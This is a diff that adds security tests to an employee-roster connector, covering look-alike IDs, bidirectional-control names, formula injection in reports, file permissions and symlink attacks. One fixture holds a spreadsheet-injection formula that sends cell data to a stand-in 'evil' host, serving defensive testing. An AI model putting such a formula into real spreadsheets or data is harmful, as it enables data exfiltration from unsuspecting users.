@@ -420,3 +420,126 @@ def test_after_kill_9_at_any_point_every_change_has_its_audit_line(delegated, tm
     assert set(lines) == _changes_in_the_directory(server, renamed)
     assert len(lines) == 5000
     assert not list((tmp_path / "state" / "journal").glob("*"))
+
+
+# -- case 7: ids are what they look like --------------------------------------------------
+
+
+def test_a_fullwidth_look_alike_id_never_locks_the_real_person(delegated, tmp_path):
+    server, identities = delegated
+    env = env_for(server, identities["province:BTE"], tmp_path)
+    roster = tmp_path / "roster.csv"
+    roster.write_text(roster_csv([bte(1), bte(2)]), encoding="utf-8")
+    ran(["reconcile"], env)
+    roster.write_text(roster_csv([bte(1), bte(2), row("BTE０００２", unit_type="province",
+                                                      unit_code="BTE")]), encoding="utf-8")
+    before = tree(server)
+    for _ in range(2):  # every run
+        result = run_cli(["reconcile", "--json"], env)
+        assert result.returncode == 1, result.stdout + result.stderr  # one rejected row
+        report = json.loads(result.stdout)
+        assert report["actions"] == []
+        (rejected,) = report["rejected"]
+        assert "ASCII" in rejected["reason"]
+        assert tree(server) == before
+
+
+def test_a_name_with_bidi_controls_is_a_rejected_row(delegated, tmp_path):
+    server, identities = delegated
+    env = env_for(server, identities["it-centre"], tmp_path)
+    (tmp_path / "roster.csv").write_text(roster_csv([row("TW1", "Nguyễn \u202eAn"), row("TW2")]),
+                                         encoding="utf-8")
+    result = run_cli(["reconcile", "--json"], env)
+    assert result.returncode == 1
+    report = json.loads(result.stdout)
+    assert [a["employee_id"] for a in report["actions"]] == ["TW2"]
+    assert "bidirectional" in report["rejected"][0]["reason"]
+
+
+# -- case 8: reports carry no formulas ----------------------------------------------------
+
+
+def test_a_formula_in_a_name_is_text_in_every_report(delegated, tmp_path):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    server, identities = delegated
+    env = env_for(server, identities["it-centre"], tmp_path)
+    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
+    (tmp_path / "roster.csv").write_text(roster_csv([row("TW1", formula), row("TW2", "-1+2"),
+                                                     row("TW3", "-")]), encoding="utf-8")
+    for suffix in ("csv", "xlsx"):
+        ran(["reconcile", "--dry-run", "--report", str(tmp_path / f"r.{suffix}")], env)
+    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
+    assert f"'{formula}".replace('"', '""') in text and "'-1+2" in text
+    assert ",-," in text  # one character is no formula
+    sheet = zipfile.ZipFile(tmp_path / "r.xlsx").read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    cells = [c for row_ in load_workbook(tmp_path / "r.xlsx")["actions"].iter_rows()
+             for c in row_ if c.value in (formula, "-1+2")]
+    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
+
+
+# -- case 9: personal data stays private on disk -------------------------------------------
+
+
+def test_every_file_the_product_writes_is_private_whatever_the_umask(delegated, tmp_path):
+    import os
+    import stat
+
+    server, identities = delegated
+    env = env_for(server, identities["it-centre"], tmp_path,
+                  CONNECTOR_LOG__FILE=str(tmp_path / "logs" / "connector.log"),
+                  CONNECTOR_STATE__DIR=str(tmp_path / "fresh" / "state"),
+                  CONNECTOR_AUDIT__PATH=str(tmp_path / "audit" / "audit.jsonl"))
+    _five_people(tmp_path)
+    old = os.umask(0o000)  # the most permissive there is; the children inherit it
+    try:
+        ran(["reconcile", "--dry-run", "--plan-out", str(tmp_path / "out" / "plan.json"),
+             "--report", str(tmp_path / "out" / "r.html")], env)
+        ran(["reconcile"], env)
+    finally:
+        os.umask(old)
+    files = [tmp_path / "logs" / "connector.log", tmp_path / "audit" / "audit.jsonl",
+             tmp_path / "out" / "plan.json", tmp_path / "out" / "r.html",
+             *(tmp_path / "fresh" / "state").iterdir()]
+    assert len(files) >= 5
+    for path in files:
+        if path.is_file():
+            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
+    for folder in (tmp_path / "logs", tmp_path / "audit", tmp_path / "out",
+                   tmp_path / "fresh" / "state"):
+        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
+
+
+def test_a_link_planted_in_the_state_directory_is_never_followed(delegated, tmp_path):
+    server, identities = delegated
+    env = env_for(server, identities["it-centre"], tmp_path)
+    _five_people(tmp_path)
+    state = tmp_path / "state"
+    state.mkdir(mode=0o700)
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious", encoding="utf-8")
+    (state / "run-it-centre.lock").symlink_to(victim)
+    before = tree(server)
+    result = run_cli(["reconcile"], env)
+    assert result.returncode == 2 and "link" in result.stderr, result.stderr
+    assert victim.read_text(encoding="utf-8") == "precious"
+    assert tree(server) == before
+
+
+def test_the_daemon_s_status_is_written_through_a_fresh_name(tmp_path):
+    from connector.daemon import _write_status, status_path
+    from connector.settings import load_settings
+
+    settings = load_settings(None, state={"dir": str(tmp_path / "state")})
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious", encoding="utf-8")
+    status = status_path(settings)
+    status.parent.mkdir(parents=True)
+    status.with_suffix(".tmp").symlink_to(victim)
+    _write_status(settings, {"runs": 1})
+    assert victim.read_text(encoding="utf-8") == "precious"
+    assert json.loads(status.read_text(encoding="utf-8")) == {"runs": 1}
+    assert oct(status.stat().st_mode & 0o777) == "0o600"
